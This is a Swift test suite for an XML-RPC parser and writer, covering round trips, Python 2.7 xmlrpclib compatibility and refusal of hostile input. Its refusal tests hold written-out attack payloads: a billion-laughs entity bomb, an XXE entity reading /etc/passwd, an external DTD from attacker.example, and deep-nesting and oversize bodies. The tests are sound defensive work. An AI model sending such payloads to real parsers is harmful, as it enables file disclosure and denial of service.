import Foundation
import FtrackFaces
import Testing

@Suite("XML-RPC reader and writer")
struct XMLRPCTests {
    // MARK: Round trips

    /// Every kind of value, nested, with the text that needs escaping.
    static let everyKind: XMLRPCValue = [
        "string": "Día 1 <&> \"quoted\" 'single' ]]> tab\there\nline end",
        "return": "one\rtwo\r\nthree",
        "empty": "",
        "spaces": "  padded  ",
        "emoji": "🎬 take 2",
        "int": 42,
        "negative": -7,
        "int32 bounds": [.int(Int(Int32.min)), .int(Int(Int32.max))],
        "beyond int32": .int(5_000_000_000),
        "int64 bounds": [.int(Int.min), .int(Int.max)],
        "double": 0.1,
        "doubles": [1e-05, 1e100, 5.0, -0.5, .double(.infinity), .double(-.infinity)],
        "true": true,
        "false": false,
        "dateTime": .dateTime("20261123T12:32:05"),
        "base64": .base64([0, 1, 2, 0xFF, 0x3C, 0x26]),
        "no bytes": .base64([]),
        "array": [1, "two", [3.0, .nil], [:]],
        "empty array": [],
        "struct": ["nested": ["deeper": [.nil, ["id": "abc"]]]],
        "empty struct": [:],
        "nil": .nil,
    ]

    @Test func responseRoundTripsEveryKind() throws {
        let body = XMLRPCWriter.response(Self.everyKind)
        #expect(try XMLRPCResponse.parse(body) == .value(Self.everyKind))
        #expect(try XMLRPCResponse.parse(Data(body)) == .value(Self.everyKind))
        #expect(body.starts(with: Array("<?xml version='1.0'?>\n<methodResponse><params><param><value>".utf8)))
    }

    @Test func callRoundTripsEveryKind() throws {
        let call = XMLRPCCall(method: "Session.create", params: [Self.everyKind, "second", 3, .nil])
        #expect(try XMLRPCCall.parse(XMLRPCWriter.call(call)) == call)
        let bare = XMLRPCCall(method: "system.listMethods")
        #expect(try XMLRPCCall.parse(XMLRPCWriter.call(bare)) == bare)
    }

    @Test func faultRoundTrips() throws {
        let body = XMLRPCWriter.fault(code: 3, message: "no such session <6b35>")
        #expect(try XMLRPCResponse.parse(body) == .fault(code: 3, message: "no such session <6b35>"))
    }

    @Test func eachKindIsWrittenAsItsElement() {
        func written(_ value: XMLRPCValue) -> String {
            var out: [UInt8] = []
            XMLRPCWriter.append(value, to: &out)
            return String(decoding: out, as: UTF8.self)
        }
        #expect(written("a<b>&\"c\"\r") == "<value><string>a&lt;b&gt;&amp;\"c\"&#13;</string></value>")
        #expect(written(5) == "<value><int>5</int></value>")
        #expect(written(.int(-2_147_483_649)) == "<value><i8>-2147483649</i8></value>")
        #expect(written(true) == "<value><boolean>1</boolean></value>")
        #expect(written(false) == "<value><boolean>0</boolean></value>")
        #expect(written(0.1) == "<value><double>0.1</double></value>")
        #expect(written(.double(.nan)) == "<value><double>nan</double></value>")
        #expect(written(.dateTime("20261123T12:32:05")) == "<value><dateTime.iso8601>20261123T12:32:05</dateTime.iso8601></value>")
        #expect(written(.base64([0, 1, 0xFF])) == "<value><base64>AAH/</base64></value>")
        #expect(written(.nil) == "<value><nil/></value>")
        #expect(written([]) == "<value><array><data></data></array></value>")
        #expect(written(["a": 1]) == "<value><struct><member><name>a</name><value><int>1</int></value></member></struct></value>")
    }

    @Test func notANumberRoundTrips() throws {
        let response = try XMLRPCResponse.parse(XMLRPCWriter.response(.double(.nan)))
        guard case .value(.double(let number)) = response else {
            Issue.record("read back \(response)")
            return
        }
        #expect(number.isNaN)
    }

    /// Characters XML 1.0 cannot carry, even as references, are replaced rather than written
    /// raw (which would make expat refuse the whole response).
    @Test func writerReplacesCharactersXMLCannotCarry() throws {
        let body = XMLRPCWriter.response("a\u{1}b\u{FFFE}c\u{FFFF}d\u{0}e\u{FFFD}")
        #expect(try XMLRPCResponse.parse(body) == .value("a\u{FFFD}b\u{FFFD}c\u{FFFD}d\u{FFFD}e\u{FFFD}"))
    }

    @Test func accessors() throws {
        let value = Self.everyKind
        #expect(value["string"]?.stringValue == "Día 1 <&> \"quoted\" 'single' ]]> tab\there\nline end")
        #expect(value["int"]?.intValue == 42)
        #expect(value["int"]?.doubleValue == 42)
        #expect(value["double"]?.doubleValue == 0.1)
        #expect(value["true"]?.boolValue == true)
        #expect(value["dateTime"]?.dateTimeValue == "20261123T12:32:05")
        #expect(value["base64"]?.base64Value == [0, 1, 2, 0xFF, 0x3C, 0x26])
        #expect(value["array"]?.arrayValue?.count == 4)
        #expect(value["array"]?[1] == "two")
        #expect(value["array"]?[9] == nil)
        #expect(value["struct"]?["nested"]?["deeper"]?[1]?["id"] == "abc")
        #expect(value["nil"]?.isNil == true)
        #expect(value["absent"] == nil)
        #expect(value["int"]?.stringValue == nil)
        #expect(value.structureValue?.first?.name == "string")
    }

    // MARK: Python 2.7's bodies

    /// Exactly what Python 2.7.18's xmlrpclib sends for the legacy client's
    /// `ServerProxy.create({...})` (`xmlrpclib.dumps((v,), "create", allow_none=True)`), in
    /// Python 2's dict order, with its line ends and its `<nil/>` that has none.
    static let python27CreateRequest = """
        <?xml version='1.0'?>
        <methodCall>
        <methodName>create</methodName>
        <params>
        <param>
        <value><struct>
        <member>
        <name>n</name>
        <value><int>5</int></value>
        </member>
        <member>
        <name>ftrack_user</name>
        <value><string>root</string></value>
        </member>
        <member>
        <name>name</name>
        <value><string>Día 1 &lt;&amp;&gt;</string></value>
        </member>
        <member>
        <name>ftrack_os</name>
        <value><string>unix</string></value>
        </member>
        <member>
        <name>syncAssetVersionData</name>
        <value><boolean>1</boolean></value>
        </member>
        <member>
        <name>project_id</name>
        <value><string>6b35c1f0-8d2e-11ef-9a41-0242ac120002</string></value>
        </member>
        <member>
        <name>type</name>
        <value><string>reviewsession</string></value>
        </member>
        <member>
        <name>description</name>
        <value><nil/></value></member>
        </struct></value>
        </param>
        </params>
        </methodCall>
        """ + "\n"

    @Test func readsPython27CreateRequest() throws {
        let call = try XMLRPCCall.parse(Array(Self.python27CreateRequest.utf8))
        #expect(call.method == "create")
        #expect(call.params == [[
            "n": 5,
            "ftrack_user": "root",
            "name": "Día 1 <&>",
            "ftrack_os": "unix",
            "syncAssetVersionData": true,
            "project_id": "6b35c1f0-8d2e-11ef-9a41-0242ac120002",
            "type": "reviewsession",
            "description": .nil,
        ]])
        #expect(call.params[0]["name"]?.stringValue == "Día 1 <&>")
        #expect(call.params[0]["description"]?.isNil == true)
    }

    /// What Python 2.7.18's xmlrpclib sends for values of every kind it has: `xmlrpclib.dumps(({
    /// "note": u"Café 🎬 \"quoted\" it's ]]> a\ttab", "items": [1, -2147483648, 0.1, 1e100, -0.5,
    /// True, False, None, "", [], {}], "thumbnail": Binary("\x00\x01\xff<&>"), "created":
    /// DateTime("20261123T12:32:05"), "nested": {"depth": [{"id": "abc"}]}}, u"Día", 7),
    /// "Session.update", allow_none=True)`; the tab is the one escape in this literal.
    static let python27EveryKindRequest = """
        <?xml version='1.0'?>
        <methodCall>
        <methodName>Session.update</methodName>
        <params>
        <param>
        <value><struct>
        <member>
        <name>note</name>
        <value><string>Café 🎬 "quoted" it's ]]&gt; a\ttab</string></value>
        </member>
        <member>
        <name>items</name>
        <value><array><data>
        <value><int>1</int></value>
        <value><int>-2147483648</int></value>
        <value><double>0.1</double></value>
        <value><double>1e+100</double></value>
        <value><double>-0.5</double></value>
        <value><boolean>1</boolean></value>
        <value><boolean>0</boolean></value>
        <value><nil/></value><value><string></string></value>
        <value><array><data>
        </data></array></value>
        <value><struct>
        </struct></value>
        </data></array></value>
        </member>
        <member>
        <name>nested</name>
        <value><struct>
        <member>
        <name>depth</name>
        <value><array><data>
        <value><struct>
        <member>
        <name>id</name>
        <value><string>abc</string></value>
        </member>
        </struct></value>
        </data></array></value>
        </member>
        </struct></value>
        </member>
        <member>
        <name>thumbnail</name>
        <value><base64>
        AAH/PCY+
        </base64></value>
        </member>
        <member>
        <name>created</name>
        <value><dateTime.iso8601>20261123T12:32:05</dateTime.iso8601></value>
        </member>
        </struct></value>
        </param>
        <param>
        <value><string>Día</string></value>
        </param>
        <param>
        <value><int>7</int></value>
        </param>
        </params>
        </methodCall>
        """ + "\n"

    @Test func readsPython27ValuesOfEveryKind() throws {
        let call = try XMLRPCCall.parse(Array(Self.python27EveryKindRequest.utf8))
        #expect(call.method == "Session.update")
        #expect(call.params == [
            [
                "note": "Café 🎬 \"quoted\" it's ]]> a\ttab",
                "items": [1, -2_147_483_648, 0.1, 1e100, -0.5, true, false, .nil, "", [], [:]],
                "nested": ["depth": [["id": "abc"]]],
                "thumbnail": .base64([0x00, 0x01, 0xFF, 0x3C, 0x26, 0x3E]),
                "created": .dateTime("20261123T12:32:05"),
            ],
            "Día",
            7,
        ])
    }

    /// Forms other writers use, which XML-RPC and XML allow.
    @Test func readsOtherWritersForms() throws {
        #expect(try Self.value("  bare text, spaces kept  ") == "  bare text, spaces kept  ")
        #expect(try Self.value("") == "")
        #expect(try Self.value("<string/>") == "")
        #expect(try Self.value("\n  <i4>-12</i4>\n") == -12)
        #expect(try Self.value("<i8>9223372036854775807</i8>") == .int(Int.max))
        #expect(try Self.value("<int>-9223372036854775808</int>") == .int(Int.min))
        #expect(try Self.value("<int> +5 </int>") == 5)
        #expect(try Self.value("<nil></nil>") == .nil)
        #expect(try Self.value("<double>-1.5E3</double>") == -1500.0)
        #expect(try Self.value("<double>inf</double>") == .double(.infinity))
        #expect(try Self.value("<boolean> 0 </boolean>") == false)
        #expect(try Self.value("<base64>AAH/\nPCY+</base64>") == .base64([0x00, 0x01, 0xFF, 0x3C, 0x26, 0x3E]))
        #expect(try Self.value("<array><data/></array>") == [])
        #expect(try Self.value("<struct/>") == [:])
        #expect(try Self.value("<string>&lt;&gt;&amp;&quot;&apos;&#233;&#xE9;&#x1F3AC;</string>") == "<>&\"'éé🎬")
        #expect(try Self.value("<string>a<!-- dropped -->b<![CDATA[<&>]]>c</string>") == "ab<&>c")
        #expect(try Self.value("<string>one\r\ntwo\rthree&#13;</string>") == "one\ntwo\nthree\r")
        #expect(try Self.value("<!-- before --><int>1</int><!-- after -->") == 1)
        // A byte-order mark, no declaration, no <params>, comments around the root.
        let bare = try XMLRPCCall.parse(Array("\u{FEFF}<!-- hi --><methodCall><methodName>system.listMethods</methodName></methodCall>\n<!-- bye -->".utf8))
        #expect(bare == XMLRPCCall(method: "system.listMethods"))
        let declared = try XMLRPCCall.parse(Array("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone='yes' ?><methodCall><methodName>a</methodName><params></params></methodCall>".utf8))
        #expect(declared == XMLRPCCall(method: "a"))
    }

    // MARK: Python 2.7 reads what the writer writes

    /// Nested structs and arrays, nil, dateTime, unicode (outside the BMP too), base64, an `<i8>`,
    /// a double, booleans, a return that must survive expat, text to escape.
    static let responseForPython: XMLRPCValue = [
        "session": [
            "name": "Día 1 <&> \"quoted\"",
            "description": .nil,
            "created": .dateTime("20261123T12:32:05"),
            "frames": [1001, 1002, .int(5_000_000_000)],
            "fps": 23.976,
            "open": true,
            "closed": false,
            "thumbnail": .base64([0x00, 0x01, 0xFF]),
            "notes": [["text": "🎬 take 2\r\nline"], [:], []],
            "empty": "",
        ],
    ]

    @Test func python27ReadsTheResponse() throws {
        let printed = try Python27.load(XMLRPCWriter.response(Self.responseForPython))
        #expect(printed == """
            [{'session': {'closed': False, 'created': datetime.datetime(2026, 11, 23, 12, 32, 5), \
            'description': None, 'empty': '', 'fps': 23.976, 'frames': [1001, 1002, 5000000000], \
            'name': u'D\\xeda 1 <&> "quoted"', 'notes': [{'text': u'\\U0001f3ac take 2\\r\\nline'}, {}, []], \
            'open': True, 'thumbnail': Binary('\\x00\\x01\\xff')}}] None
            """)
    }

    @Test func python27ReadsAFault() throws {
        let printed = try Python27.load(XMLRPCWriter.fault(code: 3, message: "no session <Día>"))
        #expect(printed == "Fault 3 u'no session <D\\xeda>'")
    }

    @Test func python27ReadsACall() throws {
        let call = XMLRPCCall(method: "Session.create", params: [["name": "Día"], .nil, 7])
        let printed = try Python27.load(XMLRPCWriter.call(call))
        #expect(printed == "[{'name': u'D\\xeda'}, None, 7] u'Session.create'")
    }

    // MARK: Refusals

    @Test func refusesBillionLaughs() throws {
        let body = """
            <?xml version="1.0"?>
            <!DOCTYPE lolz [
              <!ENTITY lol "lol">
              <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
              <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
              <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
              <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
              <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
              <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
              <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
              <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
              <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
            ]>
            <methodCall><methodName>create</methodName><params><param><value><string>&lol9;</string></value></param></params></methodCall>
            """
        let error = try #require(Self.refusal(body))
        #expect(error.reason == .dtdRefused)
        #expect(error.message == "the body declares a DOCTYPE: entities are refused")
        #expect(error.offset == 22)
    }

    @Test(arguments: [
        """
        <?xml version="1.0"?>
        <!DOCTYPE methodCall [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
        <methodCall><methodName>create</methodName><params><param><value>&xxe;</value></param></params></methodCall>
        """,
        """
        <?xml version="1.0"?>
        <!DOCTYPE methodCall SYSTEM "http://attacker.example/evil.dtd">
        <methodCall><methodName>create</methodName></methodCall>
        """,
        // Lower case is not XML, but is refused all the same.
        "<!doctype methodCall><methodCall><methodName>create</methodName></methodCall>",
    ])
    func refusesExternalEntities(body: String) throws {
        let error = try #require(Self.refusal(body))
        #expect(error.reason == .dtdRefused)
        #expect(error.message.contains("DOCTYPE"))
    }

    @Test func refusesAnEntityDeclarationWithoutDoctype() throws {
        let body = "<methodCall><!ENTITY x \"y\"><methodName>create</methodName></methodCall>"
        let error = try #require(Self.refusal(body))
        #expect(error.reason == .dtdRefused)
        #expect(error.message == "the body declares an ENTITY: entities are refused")
        #expect(error.offset == 12)
        // Even in a comment, where a scan is the surest way to find it.
        #expect(Self.refusal("<methodCall><!-- <!ENTITY x 'y'> --><methodName>a</methodName></methodCall>")?.reason == .dtdRefused)
    }

    @Test func refusesProcessingInstructions() throws {
        let body = "<?xml version='1.0'?><?xml-stylesheet href='x'?><methodCall><methodName>a</methodName></methodCall>"
        #expect(Self.refusal(body)?.reason == .processingInstructionRefused)
        let inside = "<methodCall><?php echo 1; ?><methodName>a</methodName></methodCall>"
        #expect(Self.refusal(inside)?.reason == .processingInstructionRefused)
        let late = "<methodCall><methodName>a</methodName></methodCall><?xml version='1.0'?>"
        #expect(Self.refusal(late)?.reason == .processingInstructionRefused)
    }

    /// 100,000 nested arrays are refused at the 65th, before the reader recurses further, so the
    /// stack never grows with the body.
    @Test func refusesDeepNesting() throws {
        let deepArrays = Self.callBody(String(repeating: "<array><data><value>", count: 100_000))
        let error = try #require(Self.refusal(deepArrays))
        #expect(error.reason == .tooDeep)
        #expect(error.message == "arrays and structs nest deeper than 64 levels")
        #expect(error.path.hasPrefix("methodCall/params/param/value/array/data/value/array"))

        let deepStructs = Self.callBody(String(repeating: "<struct><member><name>a</name><value>", count: 100_000))
        #expect(Self.refusal(deepStructs)?.reason == .tooDeep)
    }

    @Test func depthLimitIsExact() throws {
        func nested(_ levels: Int) -> String {
            String(repeating: "<array><data><value>", count: levels) + "<nil/>"
                + String(repeating: "</value></data></array>", count: levels)
        }
        var expected: XMLRPCValue = .nil
        for _ in 0..<64 { expected = [expected] }
        #expect(try Self.value(nested(64)) == expected)
        #expect(Self.refusal(Self.callBody(nested(65)))?.reason == .tooDeep)
        #expect(Self.refusal(Self.callBody(nested(3)), limits: XMLRPCLimits(depth: 2))?.reason == .tooDeep)
    }

    @Test func refusesABodyOverTheSizeLimit() throws {
        let big = Array(Self.callBody(String(repeating: "x", count: 9 << 20)).utf8)
        for error in [Self.refusal(big), Self.refusal(Data(big))] {
            #expect(error?.reason == .bodyTooLarge)
            #expect(error?.message == "the body is \(big.count) bytes, over the limit of 8388608")
        }
        #expect(Self.refusal(Self.callBody("abcdef"), limits: XMLRPCLimits(bodySize: 50))?.reason == .bodyTooLarge)
    }

    @Test func refusesTooManyElements() throws {
        // 100,000 values of one element each, and their nils: over 200,000 in all.
        let many = Self.callBody("<array><data>" + String(repeating: "<value><nil/></value>", count: 100_000) + "</data></array>")
        let error = try #require(Self.refusal(many))
        #expect(error.reason == .tooManyElements)
        #expect(error.message == "the body holds more than 200000 elements")

        let ten = Self.callBody("<array><data>" + String(repeating: "<value>1</value>", count: 10) + "</data></array>")
        #expect(Self.refusal(ten, limits: XMLRPCLimits(elements: 16))?.reason == .tooManyElements)
        #expect(Self.refusal(ten, limits: XMLRPCLimits(elements: 17)) == nil)
    }

    @Test func refusesUnknownEntities() throws {
        let error = try #require(Self.refusal(Self.callBody("<string>a &foo; b</string>")))
        #expect(error.reason == .unknownEntity)
        #expect(error.message.hasPrefix("the entity reference &foo; is unknown"))
        #expect(error.path == "methodCall/params/param/value/string")
        #expect(Self.refusal(Self.callBody("<string>AT&T</string>"))?.reason == .malformedXML)
        #expect(Self.refusal(Self.callBody("<string>&#0;</string>"))?.reason == .malformedXML)
        #expect(Self.refusal(Self.callBody("<string>&#xD800;</string>"))?.reason == .malformedXML)
        #expect(Self.refusal(Self.callBody("<string>&#x110000;</string>"))?.reason == .malformedXML)
        #expect(Self.refusal(Self.callBody("<string>&#12a;</string>"))?.reason == .malformedXML)
    }

    @Test func refusesMismatchedAndUnclosedTags() throws {
        let mismatched = try #require(Self.refusal(Self.callBody("<string>x</int>")))
        #expect(mismatched.reason == .malformedXML)
        #expect(mismatched.message == "</int> closes <string>")
        #expect(mismatched.path == "methodCall/params/param/value/string")

        let unclosed = "<methodCall><methodName>a</methodName><params><param><value><int>1</int></value></param>"
        #expect(Self.refusal(unclosed)?.message == "the body ends inside <params>")
        #expect(Self.refusal("<methodCall><methodName>a</methodName></methodCall></methodCall>")?.reason == .malformedXML)
        #expect(Self.refusal("<methodCall><methodName>a</methodName></methodCall><methodCall/>")?.reason == .malformedXML)
        #expect(Self.refusal(Self.callBody("<string>a]]>b</string>"))?.reason == .malformedXML)
        #expect(Self.refusal(Self.callBody("<string>a<!-- never closed</string>"))?.reason == .malformedXML)
        #expect(Self.refusal(Self.callBody("<string><![CDATA[never closed</string>"))?.reason == .malformedXML)
        #expect(Self.refusal("<?xml version='1.'?><methodCall><methodName>a</methodName></methodCall>")?.reason == .malformedXML)
    }

    @Test(arguments: ["12a", "", "1.5", "- 3", "0x10", "99999999999999999999", "9223372036854775808", "-9223372036854775809"])
    func refusesBadInts(written: String) throws {
        let error = try #require(Self.refusal(Self.callBody("<int>\(written)</int>")))
        #expect(error.reason == .invalidValue)
    }

    @Test func refusesBadValues() throws {
        #expect(Self.refusal(Self.callBody("<boolean>true</boolean>"))?.reason == .invalidValue)
        #expect(Self.refusal(Self.callBody("<double>0x1p3</double>"))?.reason == .invalidValue)
        #expect(Self.refusal(Self.callBody("<double>one</double>"))?.reason == .invalidValue)
        #expect(Self.refusal(Self.callBody("<base64>not base64!</base64>"))?.reason == .invalidValue)
        #expect(Self.refusal(Self.callBody("<nil>x</nil>"))?.reason == .invalidValue)
        let duplicate = "<struct><member><name>a</name><value>1</value></member><member><name>a</name><value>2</value></member></struct>"
        #expect(Self.refusal(Self.callBody(duplicate))?.reason == .invalidValue)
    }

    @Test func refusesWhatIsNotXMLRPC() throws {
        #expect(Self.refusal(Self.callBody("<float>1</float>"))?.message == "<float> is not an XML-RPC type")
        #expect(Self.refusal(Self.callBody("stray<int>1</int>"))?.reason == .notXMLRPC)
        #expect(Self.refusal(Self.callBody("<string>a<b/></string>"))?.reason == .notXMLRPC)
        #expect(Self.refusal(Self.callBody("<string lang='es'>a</string>"))?.reason == .notXMLRPC)
        #expect(Self.refusal(Self.callBody("<array><value>1</value></array>"))?.reason == .notXMLRPC)
        #expect(Self.refusal("<methodCall><methodName>a</methodName>text<params/></methodCall>")?.reason == .notXMLRPC)
        #expect(Self.refusal("<methodCall><methodName>a b</methodName></methodCall>")?.reason == .notXMLRPC)
        #expect(Self.refusal("<methodCall><params/></methodCall>")?.reason == .notXMLRPC)
        #expect(Self.refusal("<methodResponse><params/></methodResponse>")?.message == "the root element is <methodResponse>, not <methodCall>")
        #expect(throws: XMLRPCError.self) { try XMLRPCResponse.parse(Array("<methodResponse><params/></methodResponse>".utf8)) }
        #expect(Self.refusal("text<methodCall><methodName>a</methodName></methodCall>")?.reason == .malformedXML)
        #expect(Self.refusal("<?xml version='1.0' encoding='ISO-8859-1'?><methodCall><methodName>a</methodName></methodCall>")?.reason
            == .invalidEncoding)
        #expect(Self.refusal("")?.message == "the body is empty")
    }

    @Test(arguments: [
        [0xFF],  // no character starts so
        [0xC0, 0xAF],  // overlong "/"
        [0xED, 0xA0, 0x80],  // a surrogate
        [0xF4, 0x90, 0x80, 0x80],  // past U+10FFFF
        [0xE2, 0x82],  // cut short
        [0x01],  // a control character
        [0xEF, 0xBF, 0xBF],  // U+FFFF
    ] as [[UInt8]])
    func refusesInvalidUTF8(bytes: [UInt8]) throws {
        let head = Array("<?xml version='1.0'?>\n<methodCall><methodName>m</methodName><params><param><value><string>a".utf8)
        let body = head + bytes + Array("b</string></value></param></params></methodCall>".utf8)
        let offset = head.count
        let error = try #require(Self.refusal(body))
        #expect(error.reason == .invalidEncoding)
        #expect(error.offset == offset)
    }

    /// Every prefix of a valid body is refused, up to its last `>`; none crashes.
    @Test(arguments: [XMLRPCTests.python27CreateRequest, XMLRPCTests.python27EveryKindRequest])
    func refusesEveryTruncation(body: String) throws {
        let bytes = Array(body.utf8)
        let end = try #require(bytes.lastIndex(of: UInt8(ascii: ">"))) + 1
        for length in 0..<end {
            #expect(Self.refusal(Array(bytes[..<length])) != nil, "a body cut to \(length) bytes was read")
        }
        for length in end...bytes.count {
            #expect(Self.refusal(Array(bytes[..<length])) == nil)
        }
    }

    /// 5,000 seeded mutations of a valid body: each is read or refused with an `XMLRPCError`
    /// (typed throws: nothing else can come out), never a crash or a hang; whatever is read
    /// writes back and reads again as the same value.
    @Test func survivesMutations() throws {
        var random = SplitMix64(seed: 0x5EED_0001)
        let original = Array(Self.python27EveryKindRequest.utf8)
        let fragments = [
            "<", ">", "/", "&", ";", "#", "x", "!", "?", "[", "]", "-", "=", "\"", " ", "\n", "\r", "0", "9",
            "<value>", "</value>", "<array><data>", "</data></array>", "<struct><member><name>k</name>", "</member></struct>",
            "&lt;", "&#x1F3AC;", "&#0;", "&foo;", "<!--", "-->", "<![CDATA[", "]]>", "<nil/>", "<i8>9223372036854775808</i8>",
            "<!DOCTYPE", "<?pi?>", "<int>", "</int>",
        ].map { Array($0.utf8) } + [[0x00], [0x80], [0xC3], [0xED, 0xA0], [0xEF, 0xBF, 0xBE], [0xFF]]
        var read = 0
        var refused = 0
        for _ in 0..<5_000 {
            var body = original
            for _ in 0..<Int.random(in: 1...4, using: &random) {
                let at = Int.random(in: 0..<body.count, using: &random)
                switch Int.random(in: 0..<5, using: &random) {
                case 0:
                    body[at] = UInt8.random(in: 0...255, using: &random)
                case 1:
                    body.insert(contentsOf: fragments.randomElement(using: &random)!, at: at)
                case 2:
                    body.removeSubrange(at..<min(body.count, at + Int.random(in: 1...16, using: &random)))
                case 3:
                    let from = Int.random(in: 0..<body.count, using: &random)
                    let slice = body[from..<min(body.count, from + Int.random(in: 1...64, using: &random))]
                    body.insert(contentsOf: slice, at: at)
                default:
                    body.replaceSubrange(at..<min(body.count, at + 1), with: fragments.randomElement(using: &random)!)
                }
                if body.isEmpty { body = original }
            }
            switch Result(catching: { () throws(XMLRPCError) in try XMLRPCCall.parse(body) }) {
            case .success(let call):
                read += 1
                #expect(try XMLRPCCall.parse(XMLRPCWriter.call(call)) == call)
            case .failure(let error):
                refused += 1
                #expect(!error.message.isEmpty)
            }
        }
        #expect(read + refused == 5_000)
        #expect(refused > 0)
    }

    // MARK: Helpers

    /// A call whose one parameter is `<value>` + `valueXML` + `</value>`.
    static func callBody(_ valueXML: String) -> String {
        "<?xml version='1.0'?>\n<methodCall><methodName>m</methodName><params><param><value>\(valueXML)</value></param></params></methodCall>"
    }

    /// The one parameter of ``callBody(_:)``, read.
    static func value(_ valueXML: String) throws -> XMLRPCValue {
        try XMLRPCCall.parse(Array(callBody(valueXML).utf8)).params[0]
    }

    /// Why the reader refused `body`, or `nil` when it read it.
    static func refusal(_ body: [UInt8], limits: XMLRPCLimits = .standard) -> XMLRPCError? {
        do {
            _ = try XMLRPCCall.parse(body, limits: limits)
            return nil
        } catch {
            return error
        }
    }

    static func refusal(_ body: Data, limits: XMLRPCLimits = .standard) -> XMLRPCError? {
        do {
            _ = try XMLRPCCall.parse(body, limits: limits)
            return nil
        } catch {
            return error
        }
    }

    static func refusal(_ body: String, limits: XMLRPCLimits = .standard) -> XMLRPCError? {
        refusal(Array(body.utf8), limits: limits)
    }
}

// Helpers of these tests, kept inside the suite's namespace so that no other test file's names can clash.
extension XMLRPCTests {
    /// A small seeded generator (SplitMix64), so the mutations are the same on every run.
    struct SplitMix64: RandomNumberGenerator {
        private var state: UInt64

        init(seed: UInt64) { state = seed }

        mutating func next() -> UInt64 {
            state &+= 0x9E37_79B9_7F4A_7C15
            var z = state
            z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
            z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
            return z ^ (z >> 31)
        }
    }

    /// Python 2.7.18 under pyenv: the interpreter of ftrack's legacy client, whose xmlrpclib must
    /// read what the writer writes. Missing, it fails the tests that need it: they check the one
    /// reader that matters.
    enum Python27 {
        /// Prints what xmlrpclib reads from a body: the params (structs with their keys sorted, so
        /// the order of Python 2's dicts does not matter; `Binary` as its bytes) and the method
        /// name, or a fault's code and string.
        static let loader = #"""
            import sys, xmlrpclib
            def show(v):
                if isinstance(v, dict):
                    return '{' + ', '.join('%r: %s' % (k, show(v[k])) for k in sorted(v)) + '}'
                if isinstance(v, (list, tuple)):
                    return '[' + ', '.join(show(x) for x in v) + ']'
                if isinstance(v, xmlrpclib.Binary):
                    return 'Binary(%r)' % v.data
                return repr(v)
            try:
                params, method = xmlrpclib.loads(sys.stdin.read(), use_datetime=True)
                print show(params), repr(method)
            except xmlrpclib.Fault as fault:
                print 'Fault', repr(fault.faultCode), repr(fault.faultString)
            """#

        /// What ``loader`` prints for `body`, without its final line end.
        static func load(_ body: [UInt8]) throws -> String {
            let result = try run(python(), ["-c", loader], input: body)
            guard result.status == 0 else {
                throw Python27Failure("python 2.7 exited with \(result.status): \(result.errors)")
            }
            return result.output.trimmingCharacters(in: .newlines)
        }

        /// Python 2.7.18's path: under `$PYENV_ROOT`, `pyenv root`, `~/.pyenv` or `/root/.pyenv`.
        static func python() throws -> String {
            var roots: [String] = []
            if let root = ProcessInfo.processInfo.environment["PYENV_ROOT"] { roots.append(root) }
            if let asked = try? run("/usr/bin/env", ["pyenv", "root"]), asked.status == 0 {
                roots.append(asked.output.trimmingCharacters(in: .whitespacesAndNewlines))
            }
            roots += [NSHomeDirectory() + "/.pyenv", "/root/.pyenv"]
            for root in roots where !root.isEmpty {
                let python = root + "/versions/2.7.18/bin/python"
                if FileManager.default.isExecutableFile(atPath: python) { return python }
            }
            throw Python27Failure("no Python 2.7.18 under \(roots.joined(separator: ", ")): install it with `pyenv install 2.7.18`")
        }

        /// Runs `executable` with `input` on its standard input; files rather than pipes carry the
        /// streams, so that no size of output can block it.
        static func run(_ executable: String, _ arguments: [String], input: [UInt8] = []) throws
            -> (status: Int32, output: String, errors: String)
        {
            let directory = FileManager.default.temporaryDirectory.appendingPathComponent("xmlrpc-\(UUID().uuidString)")
            try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
            defer { try? FileManager.default.removeItem(at: directory) }
            let inputFile = directory.appendingPathComponent("in")
            let outputFile = directory.appendingPathComponent("out")
            let errorFile = directory.appendingPathComponent("err")
            try Data(input).write(to: inputFile)
            _ = FileManager.default.createFile(atPath: outputFile.path, contents: nil)
            _ = FileManager.default.createFile(atPath: errorFile.path, contents: nil)
            let process = Process()
            process.executableURL = URL(fileURLWithPath: executable)
            process.arguments = arguments
            // Python 2's dicts have a fixed order without randomized hashing; the loader sorts anyway.
            process.environment = ProcessInfo.processInfo.environment.merging(["PYTHONHASHSEED": "0"]) { $1 }
            process.standardInput = try FileHandle(forReadingFrom: inputFile)
            process.standardOutput = try FileHandle(forWritingTo: outputFile)
            process.standardError = try FileHandle(forWritingTo: errorFile)
            try process.run()
            process.waitUntilExit()
            return (process.terminationStatus,
                    String(decoding: try Data(contentsOf: outputFile), as: UTF8.self),
                    String(decoding: try Data(contentsOf: errorFile), as: UTF8.self))
        }
    }

    struct Python27Failure: Error, CustomStringConvertible {
        let description: String

        init(_ description: String) { self.description = description }
    }
}
